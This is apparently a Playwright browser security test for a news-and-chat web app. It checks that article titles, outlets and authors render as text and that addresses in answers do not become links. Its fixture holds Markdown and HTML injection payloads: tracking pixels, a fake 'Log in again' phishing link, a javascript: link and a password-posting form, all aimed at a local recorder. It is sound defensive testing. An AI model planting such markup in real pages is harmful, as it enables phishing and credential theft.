"""Finding 3 (medium) and the autolinks of finding 7, in a real browser: article metadata and text are shown as
text, never as markup.

Before: the Articles tab's "Selected: ..." line rendered an article's title, outlet and author as Markdown (outside
images loaded, a link or overlay could cover the page, a form could post a typed password away); bare ``www.`` and
e-mail addresses in a chat answer became links.
"""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.security.conftest import post_articles, serve
from tests.interfaces.server.conftest import Server, free_port

sync_api = pytest.importorskip("playwright.sync_api", reason="Playwright drives the browser (pip install playwright)")

pytestmark = [pytest.mark.security, pytest.mark.server, pytest.mark.browser, pytest.mark.slow]

CHROMIUM = "/usr/bin/chromium"
ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-quic", "--no-first-run",
        "--disable-component-update", "--disable-sync"]


class Tracker:
    """An HTTP server on 127.0.0.1 that records every request: any hit means the page loaded outside content."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                hits.append(self.path)
                self.send_response(200)
                self.send_header("content-type", "image/png")
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args: object) -> None:
                pass

        self.port = free_port()
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"


@pytest.fixture(scope="module")
def tracker() -> Iterator[Tracker]:
    t = Tracker()
    yield t
    t.server.shutdown()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, tracker: Tracker) -> Iterator[Server]:
    running = serve(tmp_path_factory.mktemp("markup"), seed=False)
    t = tracker.url
    article = {
        "title": f"Harbour news ![pixel]({t}/title.png) [Log in again]({t}/phish) <img src={t}/raw.png>",
        "source": f"Gazette ![x]({t}/outlet.png)",
        "author": f"[Reporter](javascript:alert(1)) <form action={t}/steal><input name=password></form>",
        "url": "https://gazette.example/harbour", "published_at": "2024-05-01",
        "body": "Press inquiries about the harbour dredging go to press@harbour.example or www.harbour.example, "
                "the port authority said on Wednesday.",
    }
    assert post_articles(running, [article]).status_code == 200
    yield running
    running.stop()


@pytest.fixture
def page(hostile: Server) -> Iterator[object]:
    if not Path(CHROMIUM).exists():
        pytest.skip(f"{CHROMIUM} is missing (make browser)")
    with sync_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=ARGS)
        pg = browser.new_page()
        pg.set_default_timeout(60_000)
        pg.goto(hostile.url + "/")
        pg.locator("#question textarea").wait_for()
        yield pg
        browser.close()


def test_selected_article_metadata_is_text(page, tracker: Tracker) -> None:  # noqa: ANN001
    page.get_by_role("tab", name="Articles").click()
    cell = page.locator("#article-table [data-testid='cell-0-0']")
    sync_api.expect(cell).to_contain_text("Harbour news")
    cell.click()
    selected = page.locator("#selected-article")
    sync_api.expect(selected).to_contain_text("Selected")
    sync_api.expect(selected).to_contain_text("Harbour news")
    assert selected.locator("img, a, form, input, iframe, video, audio").count() == 0, selected.inner_html()
    assert "![pixel](" in selected.inner_text()  # shown exactly as written
    page.wait_for_timeout(1000)
    assert tracker.hits == []


def test_addresses_in_an_answer_are_not_links(page, tracker: Tracker) -> None:  # noqa: ANN001
    page.locator("#question textarea").fill("Where do press inquiries about the harbour dredging go?")
    page.locator("#question textarea").press("Enter")
    sync_api.expect(page.locator("#sources-panel #turn-1")).to_have_attribute("data-state", "done")
    message = page.locator("[data-testid=bot]").last
    sync_api.expect(message).to_contain_text("press@harbour.example")
    sync_api.expect(message).to_contain_text("www.harbour.example")
    hrefs = [a.get_attribute("href") or "" for a in message.locator("a").all()]
    assert hrefs and all(h.startswith("#src-") for h in hrefs), hrefs  # only the [n] links to source cards
    assert tracker.hits == []
